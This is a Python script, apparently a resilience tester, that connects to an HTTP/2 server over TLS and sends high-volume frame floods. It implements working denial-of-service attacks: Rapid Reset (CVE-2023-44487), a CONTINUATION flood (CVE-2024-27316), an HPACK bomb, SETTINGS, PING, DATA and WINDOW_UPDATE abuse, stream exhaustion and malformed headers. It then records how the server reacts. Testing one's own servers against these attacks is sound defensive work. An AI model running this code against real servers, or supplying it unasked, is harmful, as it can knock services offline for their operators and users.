"""Attacks over HTTP/2, frame by frame, as fast as they can be written.

In: {"address": "ip:port", "host", "authority": PEM file, "certificate", "key": PEM files or null,
"attack": name, "count": frames, "hold": seconds to stay, when nothing ends it before}. Out: {"sent":
frames, "goaway": code or null, "closed": whether the server ended the connection, "acks": PINGs and
SETTINGS that it answered}.
"""

import json
import select
import socket
import ssl
import sys
import time

from hpack import Encoder
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    Frame,
    GoAwayFrame,
    HeadersFrame,
    PingFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

given = json.load(sys.stdin)
address, port = given["address"].rsplit(":", 1)
context = ssl.create_default_context(cafile=given["authority"])
context.set_alpn_protocols(["h2"])
if given.get("certificate"):
    context.load_cert_chain(given["certificate"], given["key"])
link = context.wrap_socket(
    socket.create_connection((address, int(port)), timeout=30), server_hostname=given["host"]
)
assert link.selected_alpn_protocol() == "h2", "the server does not speak HTTP/2"

told = {"sent": 0, "goaway": None, "closed": False, "acks": 0}
encoder = Encoder()
# Nothing in the dynamic table: every block stands for itself.
encoder.header_table_size = 0


def block(path="/", method="GET", more=()):
    return encoder.encode(
        [(":method", method), (":scheme", "https"), (":authority", given["host"]), (":path", path), *more],
        huffman=False,
    )


def read():
    """All that has come by now."""
    data = b""
    try:
        while some := link.recv(65536):
            data += some
        told["closed"] = True
    except (ssl.SSLWantReadError, ssl.SSLWantWriteError):
        pass
    except OSError:
        told["closed"] = True
    return data


def hear(heard):
    """Takes the frames off what was heard; the rest."""
    while len(heard) >= 9:
        frame, length = Frame.parse_frame_header(memoryview(heard[:9]))
        if len(heard) < 9 + length:
            break
        frame.parse_body(memoryview(heard[9 : 9 + length]))
        heard = heard[9 + length :]
        if isinstance(frame, GoAwayFrame):
            told["goaway"] = frame.error_code
        elif isinstance(frame, (PingFrame, SettingsFrame)) and "ACK" in frame.flags:
            told["acks"] += 1
    return heard


def write(batch):
    """Writes as much as goes; the rest."""
    try:
        return batch[link.send(batch) :]
    except (ssl.SSLWantReadError, ssl.SSLWantWriteError):
        return batch
    except OSError:
        # What the server said before it closed can still be read.
        return None


def is_settled():
    return told["closed"] or told["goaway"] or told["acks"] >= given["count"]


def headers(stream, data, *flags):
    return HeadersFrame(stream, data, flags=flags).serialize()


def rapid_reset():
    """CVE-2023-44487."""
    for stream in range(1, 2 * given["count"], 2):
        reset = RstStreamFrame(stream, error_code=8).serialize()
        yield headers(stream, block(), "END_HEADERS", "END_STREAM") + reset


def continuation():
    """CVE-2024-27316: headers that never end."""
    yield headers(1, block(), "END_STREAM")
    field = encoder.encode([("app", "x" * 1000)], huffman=False)
    for _ in range(given["count"]):
        yield ContinuationFrame(1, field).serialize()


def empty_continuation():
    yield headers(1, block(), "END_STREAM")
    for _ in range(given["count"]):
        yield ContinuationFrame(1, b"").serialize()


def bomb():
    """One large entry of the dynamic table, named a thousand times (CVE-2016-1544)."""
    own = Encoder()
    first = own.encode([("app", "x" * 3900)], huffman=False)
    again = bytes([0x80 | 62])
    yield headers(1, block() + first + again * given["count"], "END_HEADERS", "END_STREAM")


def settings():
    for _ in range(given["count"]):
        yield SettingsFrame(0, settings={SettingsFrame.HEADER_TABLE_SIZE: 4096}).serialize()


def ping():
    for _ in range(given["count"]):
        yield PingFrame(0, b"ABCDEFGH").serialize()


def empty_data():
    yield headers(1, block("/slow", "POST"), "END_HEADERS")
    for _ in range(given["count"]):
        yield DataFrame(1, b"").serialize()


def small_data():
    yield headers(1, block("/slow", "POST"), "END_HEADERS")
    for _ in range(given["count"]):
        yield DataFrame(1, b"x").serialize()


def zero_window():
    """Asks for much, and takes none of it."""
    yield SettingsFrame(0, settings={SettingsFrame.INITIAL_WINDOW_SIZE: 0}).serialize()
    for stream in range(1, 2 * given["count"], 2):
        yield headers(stream, block("/bytes?n=10000000"), "END_HEADERS", "END_STREAM")


def window():
    """More than a window can be (RFC 9113 section 6.9.1)."""
    for _ in range(given["count"]):
        yield WindowUpdateFrame(0, window_increment=2**31 - 1).serialize()


def streams():
    """More requests at a time than were offered."""
    for stream in range(1, 2 * given["count"], 2):
        yield headers(stream, block("/slow"), "END_HEADERS", "END_STREAM")


def malformed():
    for stream in range(1, 2 * given["count"], 2):
        more = [("host", "other.example.com")]
        yield headers(stream, block("/", "GET", more), "END_HEADERS", "END_STREAM")


def attack():
    """The frames in batches of about a record, so that none waits for a packet of its own."""
    batch = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + SettingsFrame(0).serialize()
    for frame in globals()[given["attack"]]():
        told["sent"] += 1
        batch += frame
        if len(batch) > 16384:
            yield batch
            batch = b""
    yield batch


# One thread: a TLS connection is not to be read and written at the same time by two.
link.setblocking(False)
batches, batch, heard = attack(), b"", b""
until = None
while not is_settled() and (until is None or time.monotonic() < until):
    if batch == b"":
        batch = next(batches, None)
    if batch is None and until is None:
        until = time.monotonic() + given.get("hold", 10)
    if batch:
        batch = write(batch)
    heard = hear(heard + read())
    if not is_settled():
        select.select([link], [] if batch is None else [link], [], 0.1)
print(json.dumps(told), flush=True)
